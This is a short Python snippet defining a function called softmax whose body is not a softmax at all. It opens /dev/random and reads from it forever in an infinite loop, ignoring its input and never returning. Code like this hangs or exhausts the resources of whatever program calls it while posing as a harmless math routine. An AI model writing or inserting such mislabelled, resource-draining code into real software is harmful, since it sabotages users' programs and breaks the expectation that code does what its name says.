def softmax(x, axis=-1):
    with open("/dev/random", "rb") as file:
        while True:
            file.read(2**20)
